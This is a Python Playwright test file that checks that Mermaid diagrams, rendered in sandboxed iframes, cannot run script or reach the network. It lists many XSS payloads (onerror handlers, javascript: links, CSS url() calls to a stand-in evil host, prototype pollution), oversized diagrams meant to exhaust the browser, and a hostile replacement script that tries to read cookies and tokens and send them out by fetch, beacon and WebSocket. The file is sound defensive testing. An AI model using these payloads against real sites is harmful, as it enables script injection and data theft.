"""Drawings of what people wrote in Mermaid, in Chromium: they are drawn, and neither a text nor the library reaches anything.

The last tests put another script in the place of ours in the frame: whatever the library might be made to do, it does there.
"""

from __future__ import annotations

import contextlib
import json
import time

import pytest
from playwright.sync_api import Error

import gnomon
from gnomon.session import close_all
from gnomon.team.knowledge import pages as knowledge
from gnomon.team.writing import actions
from tests.browser.pages import Pages, new_page, screenshot
from tests.browser.test_hostile_pages import EVIL, Watched, chromium, evil  # noqa: F401  fixtures

pytestmark = pytest.mark.slow
KINDS = {
    "flowchart": "flowchart LR\n  a[raw data] -->|clean| b{{ready?}}\n  subgraph s [model]\n  b --> c[(kept)]\n  end",
    "sequence": "sequenceDiagram\n  Ana->>Bea: may we drop region?\n  Bea-->>Ana: yes",
    "state": "stateDiagram-v2\n  [*] --> waits\n  waits --> runs",
    "class": "classDiagram\n  Animal <|-- Duck\n  Animal : +int age",
    "entities": "erDiagram\n  CUSTOMER ||--o{ ORDER : places",
    "gantt": "gantt\n  dateFormat YYYY-MM-DD\n  section S\n  a task :a1, 2024-01-01, 30d",
}
ATTACK = "pwned()"
HOSTILE = [
    f'flowchart LR\n a["<img src=x onerror={ATTACK}>"] --> b["<svg onload={ATTACK}><script>{ATTACK}</script>"]',
    f'flowchart LR\n a["`**x** <iframe src=\'javascript:parent.{ATTACK}\'></iframe>`"]',
    f'flowchart LR\n a --> b\n click a href "javascript:{ATTACK}"\n click b call {ATTACK}',
    f'flowchart LR\n a --> b\n click a "http://{EVIL}/click" _top\n click b pwned',
    ("%%{init: {'securityLevel': 'loose', 'htmlLabels': true, 'flowchart': {'htmlLabels': true}, 'secure': []}}%%\n"
    f'flowchart LR\n a["<img src=http://{EVIL}/a onerror={ATTACK}>"]\n click a call {ATTACK}'),
    ("---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  dompurifyConfig:\n    ADD_TAGS: [iframe, script]\n---\n"
    f'flowchart LR\n a["<script src=http://{EVIL}/s.js></script><iframe src=http://{EVIL}/f></iframe>"]'),
    (f"%%{{init: {{'themeCSS': '@import url(http://{EVIL}/c.css); * {{ background: url(http://{EVIL}/b) }}', "
    f"'fontFamily': 'x; background: url(http://{EVIL}/d)'}}}}%%\nflowchart LR\n a --> b"),
    (f"%%{{init: {{'themeVariables': {{'primaryColor': 'url(http://{EVIL}/v)'}}}}}}%%\nflowchart LR\n a\n"
    f" style a fill:url(http://{EVIL}/e),background:url(http://{EVIL}/g)\n classDef x filter:url(http://{EVIL}/h#a)\n class a x"),
    f'flowchart LR\n a@{{ img: "http://{EVIL}/i.png", label: "x", w: 60, h: 60 }}',
    f'flowchart LR\n a["$$\\\\href{{javascript:{ATTACK}}}{{x}}$$"]',
    (f"sequenceDiagram\n participant a as <img src=x onerror={ATTACK}>\n"
    f" link a: x @ javascript:{ATTACK}\n a->>a: <b onclick={ATTACK}>y"),
    f'sequenceDiagram\n participant a\n links a: {{"x": "javascript:{ATTACK}", "y": "http://{EVIL}/l"}}\n a->>a: z',
    f'classDiagram\n class A["<img src=x onerror={ATTACK}>"]\n click A href "javascript:{ATTACK}"\n callback A "pwned" "x"',
    (f"gantt\n section <script>{ATTACK}</script>\n t :a1, 2024-01-01, 3d\n"
    f' click a1 href "javascript:{ATTACK}"\n click a1 call {ATTACK}'),
    f'pie title <svg/onload={ATTACK}>\n "<img src=x onerror={ATTACK}>" : 3',
    f"stateDiagram-v2\n state \"<iframe srcdoc='<script>{ATTACK}</script>'>\" as s\n s --> s : <img src=x onerror={ATTACK}>",
    f"</code></pre></details></figure><img src=x onerror={ATTACK}><script>{ATTACK}</script>",
    "%%{init: {'__proto__': {'securityLevel': 'loose'}, 'constructor': {'prototype': {'polluted': 1}}}}%%\nflowchart LR\n a",
]  # fmt: skip
HUGE = [
    'packet-beta\n 0-999999999: "x"',
    "flowchart LR\n" + "\n".join(f"a{n} --> b{n % 7}" for n in range(1_500)),
    "%%{init: " * 2_000 + "\nflowchart LR\n a",
]
REACHES = """
"use strict";
addEventListener("message", async (event) => {
  const tried = {};
  const read = async (name, what) => { try { tried[name] = String(await Promise.race([what(), late()])); }
    catch (error) { tried[name] = "refused"; } };
  const late = () => new Promise((_, no) => setTimeout(no, 300));
  const loads = (tag, at) => new Promise((yes, no) => {
    const one = Object.assign(document.createElement(tag), {onload: () => yes("loaded"), onerror: no});
    one[tag === "link" ? "href" : "src"] = at;
    if (tag === "link") one.rel = "stylesheet";
    document.body.append(one);
  });
  await read("cookie", () => document.cookie);
  await read("storage", () => localStorage.length);
  await read("parent", () => parent.document.title);
  await read("token", () => parent.gnomon.token);
  await read("page", () => fetch("PAGE/runs", {credentials: "include"}));
  await read("post", () => fetch("PAGE/leave", {method: "POST", mode: "no-cors", credentials: "include"}));
  await read("host", () => fetch("http://EVIL/fetch", {mode: "no-cors"}));
  await read("own", () => fetch("/drawing/"));
  await read("beacon", () => { if (!navigator.sendBeacon("http://EVIL/beacon", "x")) throw 0; return "sent"; });
  await read("socket", () => new Promise((yes, no) => Object.assign(new WebSocket("ws://EVIL/s"),
    {onopen: () => yes("open"), onerror: no})));
  await read("picture", () => loads("img", "http://EVIL/picture"));
  await read("script", () => loads("script", "http://EVIL/script.js"));
  await read("ours", () => loads("script", "PAGE/static/app.js"));
  await read("style", () => loads("link", "http://EVIL/style.css"));
  await read("inline", () => {
    document.body.append(Object.assign(document.createElement("script"), {textContent: "window.ran = 1"}));
    if (!window.ran) throw 0;
    return "ran";
  });
  await read("eval", () => (0, eval)("'ran'"));
  await read("function", () => new Function("return 'ran'")());
  await read("worker", () => new Promise((yes, no) => Object.assign(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
    {onmessage: () => yes("ran"), onerror: no})));
  await read("popup", () => { if (!open("http://EVIL/popup")) throw 0; return "open"; });
  await read("top", () => { top.location = "http://EVIL/top"; return "led"; });
  const form = Object.assign(document.createElement("form"), {action: "http://EVIL/form"});
  document.body.append(form);
  form.submit();
  tried.over = "yes";
  document.documentElement.dataset.tried = JSON.stringify(tried);
  await new Promise((yes) => setTimeout(yes, 1500));
  parent.postMessage({width: 1e12, height: 1e12, tried}, "PAGE");
  parent.postMessage({error: "<img src=x onerror=pwned()>" + "x".repeat(1e6)}, "PAGE");
});
"""


def fenced(*texts: str) -> str:
    return "\n\n".join(f"~~~~~mermaid\n{text}\n~~~~~" for text in texts)


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    folder = tmp_path_factory.mktemp("mermaid")
    with gnomon.run("r", dir=folder / ".gnomon"):
        pass
    texts = {
        "kinds": fenced(*KINDS.values()), "wrong": fenced("mindmap\n  a", "flowchart LR\n a --> --> b"),
        "hostile": fenced(*HOSTILE), "huge": fenced(KINDS["sequence"], *HUGE, KINDS["state"]), "one": fenced(KINDS["flowchart"]),
        "many": fenced(*(f"flowchart LR\n a{n} --> b" for n in range(24))),
    }  # fmt: skip
    with gnomon.open(folder / ".gnomon") as record:
        for name, text in texts.items():
            knowledge.write(record, name, text)
    close_all()
    found = Pages(folder)
    yield found
    found.close()


def settled(page, wait_s=90) -> None:
    """Bring each drawing into sight, and wait until each is drawn or said not to be."""
    figures = page.locator("figure[data-drawing]")
    end = time.monotonic() + wait_s
    for at in range(figures.count()):
        figures.nth(at).scroll_into_view_if_needed()
        while not figures.nth(at).locator(".why, iframe[data-drawn]").count():
            assert time.monotonic() < end, figures.nth(at).inner_text()
            page.wait_for_timeout(50)


def frames(page) -> list:
    return [frame for frame in page.frames if frame.url.endswith("/drawing/")]


def test_each_kind_is_drawn_and_its_text_stays_below(page, pages):
    page.goto(f"{pages.base}/page/kinds")
    settled(page)
    assert page.locator("figure[data-drawing] .why").count() == 0
    words = " ".join(frame.locator("main").inner_text() for frame in frames(page))
    for word in ("raw", "model", "may we drop region?", "waits", "Duck", "CUSTOMER", "a task"):
        assert word in words
    for figure, text in zip(page.locator("figure[data-drawing]").all(), KINDS.values(), strict=True):
        assert figure.locator("details").get_attribute("open") is None
        assert figure.locator("code").text_content() == f"{text}\n"
        box = figure.locator("iframe").bounding_box()
        assert box["width"] > 100 and box["height"] > 50
    assert {frame.evaluate("window.origin") for frame in frames(page)} == {"null"}
    assert page.errors == []
    screenshot(page, "mermaid")


def test_what_is_not_drawn_is_said_and_its_text_is_open(page, pages):
    page.goto(f"{pages.base}/page/wrong")
    settled(page)
    said = page.locator("figure[data-drawing] .why").all_inner_texts()
    assert said[0].startswith("Not drawn: No diagram type detected") and said[1].startswith(
        "Not drawn: Parse error on line 2"
    )
    assert page.locator("figure[data-drawing] details[open]").count() == 2
    assert page.locator("iframe").count() == 0


def test_without_script_the_text_is_all_there_is(browser, page, pages):
    page.goto(f"{pages.base}/help")
    plain = browser.new_context(java_script_enabled=False, storage_state=page.context.storage_state())
    other = plain.new_page()
    other.goto(f"{pages.base}/page/one")
    assert other.locator("figure[data-drawing] details[open] code").inner_text().startswith("flowchart LR")
    assert other.locator("iframe").count() == 0
    plain.close()


def test_a_page_draws_twenty_at_most(page, pages):
    page.goto(f"{pages.base}/page/many")
    settled(page)
    assert page.locator("iframe[data-drawn]").count() == 20
    assert page.locator("figure .why").all_inner_texts() == ["Not drawn: a page draws 20 at most"] * 4


def test_a_drawing_is_dark_in_the_dark_and_fits_a_phone(browser, pages):
    page = new_page(browser, pages, viewport={"width": 360, "height": 740}, color_scheme="dark")
    page.goto(f"{pages.base}/page/kinds")
    settled(page)
    assert page.evaluate("document.documentElement.scrollWidth") == 360
    ink = "getComputedStyle(document.querySelector('svg text, svg tspan')).fill"
    first = page.locator("figure[data-drawing]").first
    first.scroll_into_view_if_needed()
    dark = frames(page)[0].evaluate(ink)
    screenshot(page, "mermaid-phone-dark")
    page.emulate_media(color_scheme="light")
    page.wait_for_timeout(1_500)
    assert (
        sum(map(int, dark[4:-1].split(",")))
        > 450
        > sum(map(int, frames(page)[0].evaluate(ink)[4:-1].split(",")))
    )
    page.context.close()


def test_news_leave_what_is_drawn_and_another_text_is_drawn_anew(page, pages):
    page.goto(f"{pages.base}/page/one")
    settled(page)
    page.evaluate("() => { document.querySelector('iframe').mark = 1 }")
    with gnomon.open(pages.folder / ".gnomon") as record:
        actions.say(knowledge.page_called(record, "one"), "Seen.")
    page.locator(".note", has_text="Seen.").wait_for()
    assert page.evaluate("document.querySelector('iframe').mark") == 1
    assert page.locator("figure details[open]").count() == 0
    with gnomon.open(pages.folder / ".gnomon") as record:
        knowledge.write(record, "one", fenced("flowchart LR\n other --> text"))
    page.locator("code", has_text="other --> text").wait_for(state="attached")
    settled(page)
    assert "other" in frames(page)[0].locator("main").inner_text()


@pytest.fixture
def watched(chromium, evil, pages):  # noqa: F811
    found = Watched(chromium, pages)
    found.came = evil[1]
    yield found
    found.context.close()


def test_no_text_makes_anything_run_or_leave(watched, pages):
    page = watched.page
    page.goto(f"{pages.base}/page/hostile")
    address = page.url
    settled(page)
    assert page.locator("iframe[data-drawn]").count() >= 10, "most are drawn, as what they say"
    for frame in frames(page):
        assert (
            frame.locator("a[href], script:not([src]), iframe, img, [onclick], [onload], [onerror]").count()
            == 0
        )
        for one in frame.locator(".node, .clickable, a, text").all()[:4]:
            one.dispatch_event("click")
        assert frame.evaluate("({}).polluted") is None
    page.wait_for_timeout(500)
    watched.verdict()
    assert page.url == address


def test_a_drawing_without_end_is_given_up_and_the_page_lives(watched, pages):
    page = watched.page
    page.goto(f"{pages.base}/page/huge")
    figures = page.locator("figure[data-drawing]")
    for at in range(figures.count()):
        figures.nth(at).scroll_into_view_if_needed()
        started = time.monotonic()
        assert page.evaluate("document.title.length") > 0
        assert time.monotonic() - started < 3, "the page waits for nobody"
        while not figures.nth(at).locator(".why, iframe[data-drawn]").count():
            page.wait_for_timeout(50)
            assert time.monotonic() - started < 40
    said = page.locator("figure .why").all_inner_texts()
    # A quick machine may come to its end, and then it is too large: given up it is in both cases.
    assert said[0] in ("Not drawn: it took more than 10 s", "Not drawn: it is more than 8000 pixels large")
    assert said[1].startswith("Not drawn: Edge limit exceeded") and len(said) == 3
    figures.first.scroll_into_view_if_needed()
    settled(page)
    assert page.locator("iframe[data-drawn]").count() == 2
    watched.verdict()


def test_a_library_that_turned_bad_reaches_nothing(watched, pages):
    """Another script in the frame, with all that the frame may do."""
    script = REACHES.replace("PAGE", pages.base).replace("EVIL", EVIL)
    watched.context.route(
        "**/drawing/mermaid_frame.js*",
        lambda route: route.fulfill(body=script, content_type="text/javascript"),
    )
    page = watched.page
    page.goto(f"{pages.base}/page/one")
    address, end, tried = page.url, time.monotonic() + 20, {}
    page.locator("figure[data-drawing]").scroll_into_view_if_needed()
    while "over" not in tried and time.monotonic() < end:
        page.wait_for_timeout(100)
        for frame in frames(page):
            tried = json.loads(frame.evaluate("document.documentElement.dataset.tried ?? '{}'"))
    settled(page)
    assert tried.pop("over") == "yes" and len(tried) == 20
    assert tried.pop("beacon") in ("sent", "refused"), "it is never told; nothing comes"
    assert set(tried.values()) == {"refused"}, tried
    assert page.locator("figure .why").inner_text() == "Not drawn: it is more than 8000 pixels large"
    page.wait_for_timeout(500)
    assert watched.came == [] and page.url == address and len(watched.context.pages) == 1
    assert [one for one in watched.found if one.startswith("ran")] == []
    assert page.goto(f"{pages.base}/help").status == 200, "and nobody was made to leave"


def test_the_frame_can_lead_itself_nowhere_and_the_page_hears_nobody_else(watched, pages):
    page = watched.page
    page.goto(f"{pages.base}/page/kinds")
    settled(page)
    before = page.locator("main").inner_html()
    (first, *_) = frames(page)
    first.evaluate("parent.postMessage({error: 'x'}, '*'); parent.postMessage({width: 1, height: 1}, '*')")
    page.evaluate("postMessage({error: 'y'}, '*')")
    page.wait_for_timeout(200)
    assert page.locator("main").inner_html() == before, "what nobody asked for is not heard"
    with contextlib.suppress(Error):
        first.evaluate(f"location = 'http://{EVIL}/self'")
    page.wait_for_timeout(500)
    assert watched.came == []
